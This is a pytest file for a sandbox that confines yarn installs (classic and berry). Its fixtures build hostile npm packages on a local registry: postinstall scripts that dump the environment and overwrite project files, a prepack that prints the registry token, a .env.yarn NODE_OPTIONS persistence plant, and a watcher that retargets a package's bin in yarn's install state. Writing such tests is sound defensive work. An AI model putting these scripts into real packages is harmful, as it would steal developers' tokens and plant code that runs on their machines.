"""yarn through the built-in two-phase policy, with the real `sbox run` and real yarn releases:
classic 1.22 and 2+ ("berry", 4.x and 3.x), which run-tests.sh fetches (support/yarns.py).

yarn 2+: `yarn install --mode=skip-build` with the registry allowlist and the credentials, then a
second `yarn install` with the network off, which builds what the first one added (berry keeps its
own record of what it has built), in Plug'n'Play's layout and in node_modules'. In that phase the
project is read-only but for what berry writes there, and its top is a throwaway layer: yarn may
make and remove what it likes at the top, and none of it reaches the host. The registry is a
loopback one that the caller names (YARN_NPM_REGISTRY_SERVER), so it joins the allowlist.

yarn classic: `yarn install --ignore-scripts`, then `npm rebuild` offline.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from support import packages as pkg
from support import yarns
from support.hostile import Trap, trap
from support.registries import NpmRegistry
from support.sboxcli import run_sbox
from support.trust import trust

from sbox_shim.plan import YARN_STATE

pytestmark = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")

# What the scripts phase could see of the credentials (written next to the proofs).
ENV_DUMP = r"""const fs = require("fs"), path = require("path"), os = require("os");
const home = process.env.HOME || os.homedir();
fs.writeFileSync(path.join(__DIR__, "env-" + process.pid + ".json"), JSON.stringify({
  profile: process.env.SBOX_PROFILE || null, env: Object.keys(process.env).sort(),
  home_yarnrc: fs.existsSync(path.join(home, ".yarnrc.yml")), home_npmrc: fs.existsSync(path.join(home, ".npmrc"))}));
"""
# What an install script would do to the project's top: make a file, rewrite the manifest, remove
# the lockfile, rewrite a source file, rewrite Plug'n'Play's loader (which `yarn run` loads).
TOP_ATTEMPTS = r"""const fs = require("fs"), path = require("path");
const top = __TOP__, done = {};
for (const [name, act] of [
    ["planted", () => fs.writeFileSync(path.join(top, "planted-top.cjs"), "require('child_process')")],
    ["manifest", () => fs.writeFileSync(path.join(top, "package.json"), "{}")],
    ["lockfile", () => fs.rmSync(path.join(top, "yarn.lock"))],
    ["source", () => fs.writeFileSync(path.join(top, "src", "index.js"), "pwned")],
    ["loader", () => fs.writeFileSync(path.join(top, ".pnp.cjs"), "pwned")]]) {
  try { act(); done[name] = true; } catch (e) { done[name] = String(e.code || e); }
}
fs.writeFileSync(path.join(__DIR__, "top-" + process.pid + ".json"), JSON.stringify(done));
"""
TOKEN = "yarn-token-for-download-only"


@pytest.fixture(autouse=True)
def _lockfiles_may_change(monkeypatch: pytest.MonkeyPatch) -> None:
    """yarn 2+ refuses to write a lockfile when CI is set (enableImmutableInstalls), with sbox or
    without: these projects start without one, as a developer's do."""
    monkeypatch.setenv("YARN_ENABLE_IMMUTABLE_INSTALLS", "false")
# yarn 2+ versions and linkers the install is proved with (3.x: the oldest major still in use)
BERRIES = [(yarns.BERRY, "pnp"), (yarns.BERRY, "node-modules"), (yarns.BERRY_3, "pnp")]


def _proofs_in(linker: str) -> str:
    # where a dependency's install script runs and may write: its own package's directory
    return ".yarn/unplugged" if linker == "pnp" else "node_modules"


def _packages(t: Trap, project: Path, proofs: Path) -> list[bytes]:
    evil = pkg.npm_package(
        "sbox-evil", "1.0.0",
        {"hostile.js": pkg.hostile_npm_script(*t.args()),
         "envdump.js": ENV_DUMP.replace("__DIR__", json.dumps(str(proofs))),
         "top.js": TOP_ATTEMPTS.replace("__TOP__", json.dumps(str(project))).replace("__DIR__", json.dumps(str(proofs)))},
        scripts={"postinstall": "node hostile.js && node envdump.js && node top.js"})
    dep = pkg.npm_package("@sbox/dep", "1.2.0", {"index.js": "module.exports = 41;\n"})
    hello = pkg.npm_package("sbox-hello", "1.0.0", {"index.js": "module.exports = require('@sbox/dep') + 1;\n"},
                            dependencies={"@sbox/dep": "^1.0.0"})
    return [evil, dep, hello]


@pytest.fixture
def berry(request: pytest.FixtureRequest, tmp_path: Path, fake_home: Path,
          monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Trap, NpmRegistry, str, str]]:
    version, linker = request.param
    monkeypatch.setenv("PATH", yarns.path_with(version))
    project = tmp_path / "project"
    with trap(fake_home, tmp_path, project, proofs_in=_proofs_in(linker)) as t:
        with NpmRegistry(_packages(t, project, t.proof_dirs[0])) as registry:
            (project / "src").mkdir()
            (project / "src" / "index.js").write_text("module.exports = require('sbox-hello');\n")
            (project / "package.json").write_text(json.dumps({
                "name": "app", "version": "0.0.0", "private": True, "packageManager": f"yarn@{version}",
                "dependencies": {"sbox-hello": "1.0.0", "sbox-evil": "1.0.0"}}, indent=2))
            (project / ".yarnrc.yml").write_text(
                f"nodeLinker: {linker}\nenableScripts: true\nunsafeHttpWhitelist: ['127.0.0.1']\n")
            # the user names the registry (a loopback one is admitted only so) and holds its token
            monkeypatch.setenv("YARN_NPM_REGISTRY_SERVER", registry.url)
            monkeypatch.setenv("YARN_NPM_AUTH_TOKEN", TOKEN)
            (fake_home / ".yarnrc.yml").write_text(f"npmAuthToken: {TOKEN}-in-home\n")
            yield t, registry, version, linker


def _opt_in(project: Path, backend: str) -> None:
    (project / "sbox.yaml").write_text(f"version: 1\nbackend: {backend}\n")
    trust(project)


def _install(sbox_bin: str, project: Path, *steps: str) -> tuple[subprocess.CompletedProcess[str], str]:
    """`sbox run -- yarn install`, which must succeed announcing `steps` (how the lines of its steps
    begin after their labels: download, scripts, state)."""
    result = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], project,
                      env={k: v for k, v in os.environ.items() if k != "SBOX_QUIET"})
    out = result.stdout + result.stderr
    assert result.returncode == 0, out[-4000:]
    lines = [ln.split(" -> ")[0] for ln in result.stderr.splitlines() if ln.startswith("sbox:")]
    assert len(lines) == len(steps), out[-4000:]
    for n, (line, begins) in enumerate(zip(lines, steps), 1):
        assert line.startswith(f"sbox: step {n}/{len(steps)} [{('download', 'scripts', 'state')[n - 1]}] {begins}"), line
    return result, out


def _yarn_node(project: Path, code: str) -> str:
    out = subprocess.run(["yarn", "node", "-p", code], cwd=project, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stdout + out.stderr
    return out.stdout.strip()


def _json(folder: Path, prefix: str) -> list[dict[str, object]]:
    return [json.loads(p.read_text()) for p in sorted(folder.glob(prefix + "-*.json"))]


@pytest.mark.parametrize("berry", BERRIES, indirect=True, ids=[f"{v}-{linker}" for v, linker in BERRIES])
def test_yarn_berry_builds_offline_confined_and_keeps_the_top(
        berry: tuple[Trap, NpmRegistry, str, str], backend: str, sbox_bin: str) -> None:
    t, registry, version, linker = berry
    _opt_in(t.project, backend)
    manifest = json.loads((t.project / "package.json").read_text())
    result, out = _install(sbox_bin, t.project, "yarn install --mode=skip-build", "yarn install",
                           "env ")

    # Installed, from the loopback registry, and it works.
    assert "/sbox-evil/-/sbox-evil-1.0.0.tgz" in registry.paths
    assert _yarn_node(t.project, "require('sbox-hello')") == "42"

    # The install script ran once, in the scripts phase, and could do none of its four things.
    proofs = t.proofs()
    assert len(proofs) == 1 and proofs[0]["profile"] == "yarn:scripts", proofs
    t.assert_confined(proofs[0])
    t.assert_nothing_escaped(out)
    (seen,) = _json(t.proof_dirs[0], "env")
    assert "YARN_NPM_AUTH_TOKEN" not in seen["env"] and seen["home_yarnrc"] is False  # type: ignore[operator]

    # The top: what it made there is gone, what it changed is as it was.
    (top,) = _json(t.proof_dirs[0], "top")
    assert top["planted"] is True, top  # made, in the throwaway layer
    assert not (t.project / "planted-top.cjs").exists()
    assert top["manifest"] != True and json.loads((t.project / "package.json").read_text()) == manifest  # noqa: E712
    assert top["lockfile"] != True and (t.project / "yarn.lock").is_file()  # noqa: E712
    assert top["source"] != True and "pwned" not in (t.project / "src" / "index.js").read_text()  # noqa: E712
    loader = t.project / ".pnp.cjs"
    assert loader.is_file() if linker == "pnp" else not loader.exists()
    assert not loader.exists() or "pwned" not in loader.read_text()

    # Again, package.json touched (else, nothing changed, no scripts phase): it runs, and berry
    # builds nothing it has built: the state step kept its record (with Plug'n'Play it prunes
    # the proofs from `.yarn/unplugged`, which holds only unpacked packages: what it says counts)
    loud = {k: v for k, v in os.environ.items() if k != "SBOX_QUIET"}
    os.utime(t.project / "package.json")
    again = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], t.project, env=loud)
    assert again.returncode == 0 and "[scripts] yarn install" in again.stderr, again.stderr[-4000:]
    assert "must be built" not in again.stdout and "sbox-evil@npm:1.0.0 must be built" in result.stdout
    # Again, unchanged: nothing decides a build differently, so no scripts phase at all.
    again = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], t.project, env=loud)
    assert again.returncode == 0, again.stderr[-4000:]
    assert "[scripts] skipped: nothing to build" in again.stderr, again.stderr[-4000:]
    # a postinstall of the project's own, which changes no install state: built
    manifest["scripts"] = {"postinstall": "node -e 0"}
    (t.project / "package.json").write_text(json.dumps(manifest, indent=2))
    again = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], t.project, env=loud)
    assert again.returncode == 0 and "app@workspace:. must be built" in again.stdout, again.stdout[-4000:]


@pytest.mark.parametrize("berry", [BERRIES[0]], indirect=True, ids=["4-pnp"])
def test_control_the_same_berry_install_on_the_bare_host_leaks_and_writes_the_top(
        berry: tuple[Trap, NpmRegistry, str, str]) -> None:
    t, _, _, _ = berry
    result = subprocess.run(["yarn", "install"], cwd=t.project, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stdout[-4000:]
    (proof,) = t.proofs()
    assert proof["profile"] is None
    t.assert_leaked(proof)
    assert (t.project / "planted-top.cjs").is_file()
    (seen,) = _json(t.proof_dirs[0], "env")
    assert "YARN_NPM_AUTH_TOKEN" in seen["env"]  # type: ignore[operator]


@pytest.mark.parametrize("berry", [BERRIES[0]], indirect=True, ids=["4-pnp"])
def test_berry_commands_that_install_build_in_the_scripts_phase(
        berry: tuple[Trap, NpmRegistry, str, str], backend: str, sbox_bin: str) -> None:
    """Red team 36: `yarn --cwd . install` and `yarn dedupe` install and build as `yarn install`
    does; run as commands given (the default profile) their packages' scripts wrote the project,
    planting what `yarn run` on the host runs. They go through the three steps: the script runs in
    `yarn:scripts`, confined, and what it makes at the top never reaches the host."""
    t, _, _, _ = berry
    _opt_in(t.project, backend)
    loud = {k: v for k, v in os.environ.items() if k != "SBOX_QUIET"}
    for argv in (["yarn", "--cwd", ".", "install"], ["yarn", "dedupe"]):
        for name in (".yarn/unplugged", ".yarn/install-state.gz", ".pnp.cjs", ".pnp.loader.mjs"):  # builds again
            path = t.project / name
            shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        result = run_sbox(sbox_bin, ["run", "--", *argv], t.project, env=loud)
        assert result.returncode == 0, result.stderr[-3000:]
        assert f"[download] {' '.join(argv)} --mode=skip-build" in result.stderr, result.stderr[-3000:]
        assert "[scripts] yarn " in result.stderr and "must be built" in result.stdout, result.stdout[-3000:]
        assert [p["profile"] for p in t.proofs()] == ["yarn:scripts"], argv
        t.assert_confined(t.proofs()[0])
        assert not (t.project / "planted-top.cjs").exists(), argv
        for proof in t.proof_dirs[0].glob("proof-*.json"):
            proof.unlink()
    # `yarn rebuild`: berry's scripts phase (not npm's outputs, under which PnP's top was EROFS)
    result = run_sbox(sbox_bin, ["run", "--", "yarn", "rebuild"], t.project, env=loud)
    assert result.returncode == 0 and "step 1/2 [scripts] yarn rebuild" in result.stderr, result.stderr[-3000:]
    assert not (t.project / "planted-top.cjs").exists()


def _git_dependency(t: Trap, tmp: Path, registry: NpmRegistry) -> Path:
    """A repository served by dumb HTTP beside the registry, whose `prepack` (berry runs it to
    build the dependency as it downloads) is the hostile script, and prints the token it sees. Its
    proofs go to the directory returned (yarn prunes node_modules of what it did not put there)."""
    work, proofs = tmp / "gitdep-work", tmp / "gitdep-proofs"
    work.mkdir()
    proofs.mkdir(mode=0o777)
    canary, host, port, outside, _, udp = t.args()
    (work / "hostile.js").write_text(
        pkg.hostile_npm_script(canary, host, port, outside, str(proofs / "proof-{unique}.json"), udp))
    (work / "package.json").write_text(json.dumps({
        "name": "gitdep", "version": "1.0.0",
        "scripts": {"prepack": "node hostile.js && node -e \"console.log('TOKEN=' + process.env.YARN_NPM_AUTH_TOKEN)\""}}))
    git = ["git", "-c", "user.email=t@example.invalid", "-c", "user.name=t", "-c", "init.defaultBranch=main"]
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "gitdep"]):
        subprocess.run(git + args, cwd=work, check=True)
    subprocess.run(git + ["clone", "-q", "--bare", str(work), str(tmp / "gitdep.git")], check=True)
    subprocess.run(["git", "update-server-info"], cwd=tmp / "gitdep.git", check=True)
    for path in (tmp / "gitdep.git").rglob("*"):
        if path.is_file():
            registry.add_file("/gitdep.git/" + path.relative_to(tmp / "gitdep.git").as_posix(), path.read_bytes())
    return proofs


@pytest.mark.parametrize("berry", [(yarns.BERRY, "node-modules")], indirect=True, ids=["4-node-modules"])
def test_a_berry_git_dependency_s_scripts_do_not_run_with_the_network_and_the_token(
        berry: tuple[Trap, NpmRegistry, str, str], backend: str, sbox_bin: str, tmp_path: Path) -> None:
    """Berry builds a git dependency from its sources while it downloads: `yarn install` and
    `yarn pack` in the clone, its `prepack` with them, which `--mode=skip-build` does not reach.
    In sbox's download phase that is third-party code with the network and the registry token: git
    has no transport there, so the install stops before anything of it runs, and one line says why.
    The control: the same install outside sbox runs the prepack."""
    t, registry, _, _ = berry
    proofs = _git_dependency(t, tmp_path, registry)
    manifest = json.loads((t.project / "package.json").read_text())
    manifest["dependencies"] = {"gitdep": f"git+{registry.url}/gitdep.git#main"}
    (t.project / "package.json").write_text(json.dumps(manifest))
    with open(t.project / ".yarnrc.yml", "a") as rc:
        rc.write("approvedGitRepositories: ['**']\n")  # yarn 4.1x's own gate, opened as a project would
    _opt_in(t.project, backend)
    result = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], t.project)
    out = result.stdout + result.stderr
    assert result.returncode != 0, out[-4000:]
    assert list(proofs.iterdir()) == [] and f"TOKEN={TOKEN}" not in out, out[-4000:]
    t.assert_nothing_escaped(out)
    assert "sbox: gitdep: a git dependency, which yarn 2+ builds from its sources" in result.stderr, out[-4000:]

    control = subprocess.run(["yarn", "install"], cwd=t.project, capture_output=True, text=True, timeout=300)
    assert control.returncode == 0, control.stdout[-4000:]
    assert [json.loads(p.read_text())["profile"] for p in proofs.iterdir()] == [None]


@pytest.fixture
def classic(tmp_path: Path, fake_home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Trap, NpmRegistry]]:
    monkeypatch.setenv("PATH", yarns.path_with(yarns.CLASSIC))
    project = tmp_path / "project"
    with trap(fake_home, tmp_path, project, proofs_in="node_modules") as t:
        with NpmRegistry(_packages(t, project, t.proof_dirs[0])) as registry:
            (project / "src").mkdir()
            (project / "src" / "index.js").write_text("module.exports = 1;\n")
            (project / "package.json").write_text(json.dumps({
                "name": "app", "version": "0.0.0", "private": True,
                "dependencies": {"sbox-hello": "1.0.0", "sbox-evil": "1.0.0"}}))
            (project / ".npmrc").write_text(f"registry={registry.url}/\n")
            monkeypatch.setenv("npm_config_registry", f"{registry.url}/")
            yield t, registry


def test_yarn_classic_downloads_then_builds_offline(classic: tuple[Trap, NpmRegistry], backend: str,
                                                    sbox_bin: str) -> None:
    t, registry = classic
    _opt_in(t.project, backend)
    _, out = _install(sbox_bin, t.project, "yarn install --ignore-scripts", "npm rebuild")
    assert (t.project / "yarn.lock").is_file() and "/sbox-evil/-/sbox-evil-1.0.0.tgz" in registry.paths
    proofs = t.proofs()
    assert len(proofs) == 1 and proofs[0]["profile"] == "yarn:scripts", proofs
    t.assert_confined(proofs[0])
    t.assert_nothing_escaped(out)


def test_yarn_classic_in_a_project_that_looks_like_berry_runs_no_script_while_it_downloads(
        classic: tuple[Trap, NpmRegistry], backend: str, sbox_bin: str) -> None:
    """A `.yarnrc.yml` is berry's, so the download phase is `yarn install --mode=skip-build`; had
    classic run there, it would have taken `--mode` silently and run the install scripts with the
    network and the token. The sandbox's `~/.yarnrc` turns them off for classic: no script runs
    in the download phase (the offline phase then fails: classic has nothing to install from)."""
    t, _ = classic
    (t.project / ".yarnrc.yml").write_text("enableTelemetry: false\n")
    _opt_in(t.project, backend)
    result = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], t.project,
                      env={k: v for k, v in os.environ.items() if k != "SBOX_QUIET"})
    out = result.stdout + result.stderr
    assert "sbox: step 1/3 [download] yarn install --mode=skip-build" in result.stderr, out[-4000:]
    assert (t.project / "node_modules" / "sbox-evil" / "hostile.js").is_file(), out[-4000:]  # downloaded
    assert [p["profile"] for p in t.proofs()] in ([], ["yarn:scripts"]), out[-4000:]
    t.assert_nothing_escaped(out)


@pytest.mark.parametrize("linker", ["node-modules", "pnp"])
def test_a_berry_monorepo_in_a_directory_of_the_project_builds_where_yarn_puts_each_package(
        linker: str, backend: str, sbox_bin: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """sbox's project is the repository; berry's is `web/` in it, with workspaces, run from one of
    them. A version the root cannot hoist goes to the workspace's own node_modules (node-modules
    linker), where its build script runs and writes: that directory is an output of the scripts
    phase too, and `web/`'s top the throwaway layer."""
    monkeypatch.setenv("PATH", yarns.path_with(yarns.BERRY))
    built = "require('fs').writeFileSync('built.txt', process.env.SBOX_PROFILE || 'host')"
    lib1 = pkg.npm_package("sbox-lib", "1.0.0", {"index.js": "module.exports = 1;\n"})
    lib2 = pkg.npm_package("sbox-lib", "2.0.0", {"index.js": "module.exports = 2;\n", "b.js": built},
                           scripts={"postinstall": "node b.js"})
    project = tmp_path / "repo"
    web = project / "web"
    (web / "packages" / "a").mkdir(parents=True)
    with NpmRegistry([lib1, lib2]) as registry:
        (web / "package.json").write_text(json.dumps({
            "name": "web", "private": True, "packageManager": f"yarn@{yarns.BERRY}", "workspaces": ["packages/*"],
            "dependencies": {"sbox-lib": "1.0.0"}}))
        (web / "packages" / "a" / "package.json").write_text(json.dumps({
            "name": "a", "version": "1.0.0", "dependencies": {"sbox-lib": "2.0.0"}}))
        (web / ".yarnrc.yml").write_text(f"nodeLinker: {linker}\nenableScripts: true\n"
                                         "unsafeHttpWhitelist: ['127.0.0.1']\n")
        monkeypatch.setenv("YARN_NPM_REGISTRY_SERVER", registry.url)
        _opt_in(project, backend)
        trust(web / ".yarnrc.yml")
        result = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], web / "packages" / "a")
        assert result.returncode == 0, (result.stdout + result.stderr)[-4000:]
    marks = [p.read_text() for p in web.rglob("built.txt")]
    assert marks == ["yarn:scripts"], marks
    if linker == "node-modules":
        assert (web / "packages" / "a" / "node_modules" / "sbox-lib" / "built.txt").is_file()
    assert _yarn_node(web / "packages" / "a", "require('sbox-lib')") == "2"
    assert _yarn_node(web, "require('sbox-lib')") == "1"


@pytest.mark.parametrize("berry", [(yarns.BERRY, "node-modules"), (yarns.BERRY, "pnp")], indirect=True,
                         ids=["4-node-modules", "4-pnp"])
def test_yarn_s_constraints_and_what_they_require_run_offline_only(
        berry: tuple[Trap, NpmRegistry, str, str], backend: str, sbox_bin: str, tmp_path: Path) -> None:
    """Red team 33: with `enableConstraintsChecks` on (the project's trusted `.yarnrc.yml`), yarn
    4's install loads `yarn.config.cjs` and what it requires (`@yarnpkg/types`, as yarn's docs
    begin it) in its own process, `--mode=skip-build` or not: in the download phase, with the
    network and the registry token. A package the last scripts phase rewrote in node_modules then
    ran there on the next install. Now the download phase turns the checks off; they run in the
    scripts phase, offline, without the token. The control: yarn alone runs them with the token."""
    t, registry, _, linker = berry
    types = pkg.npm_package("@yarnpkg/types", "4.0.1", {"index.js": (
        "const fs = require('fs'); let canary = null;\n"
        f"try {{ canary = fs.readFileSync({json.dumps(str(t.canary))}, 'utf8'); }} catch (e) {{}}\n"
        "const seen = JSON.stringify({profile: process.env.SBOX_PROFILE || null,"
        " token: process.env.YARN_NPM_AUTH_TOKEN || null, canary});\n"
        f"try {{ fs.writeFileSync({json.dumps(str(tmp_path / 'types-proofs'))} + '/proof-' + process.pid + '.json', seen); }}"
        " catch (e) { process.stderr.write('TYPES-PROOF ' + seen + '\\n'); }\n"
        "module.exports = {defineConfig: (c) => c};\n")})
    registry.add(types)
    proofs = tmp_path / "types-proofs"
    proofs.mkdir(mode=0o777)
    manifest = json.loads((t.project / "package.json").read_text())
    manifest["dependencies"] = {"sbox-hello": "1.0.0"}
    manifest["devDependencies"] = {"@yarnpkg/types": "4.0.1"}
    (t.project / "package.json").write_text(json.dumps(manifest))
    (t.project / "yarn.config.cjs").write_text(
        "const {defineConfig} = require('@yarnpkg/types');\n"
        "module.exports = defineConfig({async constraints() {}});\n")
    with open(t.project / ".yarnrc.yml", "a") as rc:
        rc.write("enableConstraintsChecks: true\n")
    _opt_in(t.project, backend)
    printed = []
    for _ in range(2):  # the second: after a scripts phase that could have rewritten the package
        result = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], t.project)
        out = result.stdout + result.stderr
        assert result.returncode == 0, out[-4000:]
        printed += [json.loads(ln.split("TYPES-PROOF ", 1)[1]) for ln in out.splitlines() if "TYPES-PROOF " in ln]
    seen = [json.loads(p.read_text()) for p in sorted(proofs.iterdir())] + printed
    assert seen and {(p["profile"], p["token"], p["canary"]) for p in seen} == {("yarn:scripts", None, None)}, seen
    t.assert_nothing_escaped(out)

    for p in proofs.iterdir():
        p.unlink()
    control = subprocess.run(["yarn", "install"], cwd=t.project, capture_output=True, text=True, timeout=120)
    seen = [json.loads(p.read_text()) for p in proofs.iterdir()]
    assert [(p["profile"], p["token"], p["canary"]) for p in seen] == [(None, TOKEN, t.token)], control.stdout[-3000:]


def test_a_dot_env_yarn_a_step_plants_is_quarantined(backend: str, sbox_bin: str, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """yarn 4 puts the variables of the project's `.env.yarn` into every script it runs: one that
    a step plants with `NODE_OPTIONS=--require=./planted.cjs` runs the step's code at the host's
    next `yarn run`. The persistence guard moves it to the quarantine. The control: yarn runs it."""
    monkeypatch.setenv("PATH", yarns.path_with(yarns.BERRY))
    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text(json.dumps({
        "name": "app", "private": True, "packageManager": f"yarn@{yarns.BERRY}", "scripts": {"hello": "node -e 0"}}))
    (project / ".yarnrc.yml").write_text("enableTelemetry: false\n")
    assert subprocess.run(["yarn", "install"], cwd=project, capture_output=True, timeout=120).returncode == 0
    _opt_in(project, backend)
    plant = ("const fs = require('fs'); fs.writeFileSync('.env.yarn', 'NODE_OPTIONS=--require=./planted.cjs\\n');"
             "fs.writeFileSync('planted.cjs', \"require('fs').writeFileSync('ran-on-host', '1')\");")
    result = run_sbox(sbox_bin, ["run", "--", "node", "-e", plant], project)
    assert result.returncode == 0, result.stderr[-3000:]
    assert not (project / ".env.yarn").exists(), result.stderr[-3000:]
    subprocess.run(["yarn", "run", "hello"], cwd=project, capture_output=True, timeout=120)
    assert not (project / "ran-on-host").exists()

    (project / ".env.yarn").write_text("NODE_OPTIONS=--require=./planted.cjs\n")  # the control
    subprocess.run(["yarn", "run", "hello"], cwd=project, capture_output=True, timeout=120)
    assert (project / "ran-on-host").is_file()


# A postinstall that points another package's `bin` at its own file in yarn's install state, which
# `yarn run`, `yarn exec` and `yarn bin` on the host read (red team 34): at once, and from a
# detached watcher that keeps at it, to outlast yarn's own last write of the file.
RETARGET = r"""const fs = require("fs"), path = require("path"), v8 = require("v8"), zlib = require("zlib");
const state = path.join(__TOP__, ".yarn", "install-state.gz");
const target = "../".repeat(40) + path.join(__dirname, "pwn.js").slice(1);
function retarget() {
  let s; try { s = v8.deserialize(zlib.gunzipSync(fs.readFileSync(state))); } catch (e) { return; }
  for (const [, p] of s.storedPackages) {
    if (p.name === "sbox-tool" && p.bin.get("tool") !== target) {
      p.bin.set("tool", target);
      fs.writeFileSync(state, zlib.gzipSync(v8.serialize(s)));
      fs.appendFileSync(path.join(__dirname, "retargeted.log"), "retargeted\n");
    }
  }
}
retarget();
if (process.argv[2] !== "watch") {
  require("child_process").spawn(process.execPath, [__filename, "watch"], {detached: true, stdio: "ignore"}).unref();
  const ready = path.join(__dirname, "watching"), until = Date.now() + 10000;  // its node takes a while to start
  while (!fs.existsSync(ready) && Date.now() < until) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 10);
} else {
  fs.writeFileSync(path.join(__dirname, "watching"), "");
  fs.watch(state, retarget);  // at once after each write of yarn's
  const started = Date.now();
  setInterval(() => { retarget(); if (Date.now() - started > 4000) process.exit(0); }, 2);
}
"""


@pytest.mark.parametrize("version", [yarns.BERRY, yarns.BERRY_3])
def test_a_script_cannot_point_a_bin_of_yarn_s_install_state_at_its_own_code(
        backend: str, sbox_bin: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, version: str) -> None:
    """yarn 2+'s scripts phase writes `.yarn/install-state.gz`, where `yarn run` on the host finds
    each package's `bin`. A postinstall that points `tool` at its own file there is undone: the
    file is the download's, with the scripts phase's build record alone, so the host's `yarn run
    tool` runs the real tool, and a repeated install builds nothing. The control: without sbox,
    the host's `yarn run tool` runs the postinstall's file."""
    monkeypatch.setenv("PATH", yarns.path_with(version))
    outcome = {}
    # The watcher races yarn's last write of the file and the sandbox's end, and now and then
    # loses: a fresh project, up to three times, until it had the last word (what the state step
    # says it undid), so that the attack the test proves blocked did happen.
    for attempt in range(3):
        with _retargeting(tmp_path, f"sbox-{attempt}", version, monkeypatch) as (project, marker):
            _opt_in(project, backend)
            loud = {k: v for k, v in os.environ.items() if k != "SBOX_QUIET"}  # with the registry set
            with _watching(project / ".yarn" / "install-state.gz", b"pwn.js") as seen:
                result = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], project, env=loud)
            # not for a moment did the project's file hold what a script wrote (red team 35: a
            # padded file was there for as long as sbox took to copy it, before the state step)
            assert seen == [], seen
            assert result.returncode == 0, result.stderr[-3000:]
            assert f"/node {YARN_STATE} " in result.stderr and "[state] env /" in result.stderr, result.stderr[-3000:]
            if "the scripts phase changed yarn's \"storedPackages\" in its install state" not in result.stderr:
                continue
            # the postinstall did retarget the bin, in the scripts phase
            assert list(project.glob(".yarn/unplugged/sbox-evil-*/node_modules/sbox-evil/retargeted.log"))
            ran = subprocess.run(["yarn", "run", "tool"], cwd=project, capture_output=True, text=True, timeout=120)
            outcome["sbox"] = (ran.stdout.strip(), marker.read_text() if marker.exists() else None)
            os.utime(project / "package.json")  # else no scripts phase at all (nothing changed)
            again = run_sbox(sbox_bin, ["run", "--", "yarn", "install"], project, env=loud)
            assert again.returncode == 0 and "[scripts] yarn install" in again.stderr, again.stderr[-3000:]
            assert "must be built" not in again.stdout, again.stdout[-3000:]  # the build record was kept
            break
    assert "sbox" in outcome, "the watcher never had the last word in three installs"
    with _retargeting(tmp_path, "control", version, monkeypatch) as (project, marker):
        direct = subprocess.run(["yarn", "install"], cwd=project, capture_output=True, text=True, timeout=300)
        assert direct.returncode == 0, direct.stdout[-3000:]
        time.sleep(1)  # the watcher outlives a direct install
        ran = subprocess.run(["yarn", "run", "tool"], cwd=project, capture_output=True, text=True, timeout=120)
        outcome["control"] = (ran.stdout.strip(), marker.read_text() if marker.exists() else None)
    assert outcome["sbox"] == ("the real tool", None), outcome
    assert outcome["control"] == ("", "host"), outcome


@contextmanager
def _retargeting(tmp_path: Path, name: str, version: str,
                 monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, Path]]:
    """A berry project depending on `sbox-tool` (its command `tool`) and `sbox-evil` (whose
    postinstall is RETARGET, its `pwn.js` writing the marker), from a loopback registry."""
    project, marker = tmp_path / name, tmp_path / f"pwned-{name}"
    project.mkdir()
    pwn = f"require('fs').writeFileSync({json.dumps(str(marker))}, process.env.SBOX_PROFILE || 'host');\n"
    packages = [
        pkg.npm_package("sbox-tool", "1.0.0", {"cli.js": "#!/usr/bin/env node\nconsole.log('the real tool');\n"},
                        bin={"tool": "cli.js"}),
        pkg.npm_package("sbox-evil", "1.0.0", {"retarget.js": RETARGET.replace("__TOP__", json.dumps(str(project))),
                                               "pwn.js": pwn}, scripts={"postinstall": "node retarget.js"})]
    with NpmRegistry(packages) as registry:
        monkeypatch.setenv("YARN_NPM_REGISTRY_SERVER", registry.url)
        (project / "package.json").write_text(json.dumps({
            "name": "app", "private": True, "packageManager": f"yarn@{version}",
            "dependencies": {"sbox-tool": "1.0.0", "sbox-evil": "1.0.0"}}))
        (project / ".yarnrc.yml").write_text("nodeLinker: pnp\nenableScripts: true\nunsafeHttpWhitelist: ['127.0.0.1']\n")
        yield project, marker


@contextmanager
def _watching(path: Path, needle: bytes) -> Iterator[list[float]]:
    """While the block runs, read `path` every 2 ms; the times its gunzipped content held `needle`."""
    import gzip
    import threading

    seen: list[float] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            try:
                if needle in gzip.decompress(path.read_bytes()):
                    seen.append(time.time())
            except (OSError, EOFError, gzip.BadGzipFile):
                pass
            stop.wait(0.002)

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        stop.set()
        thread.join()
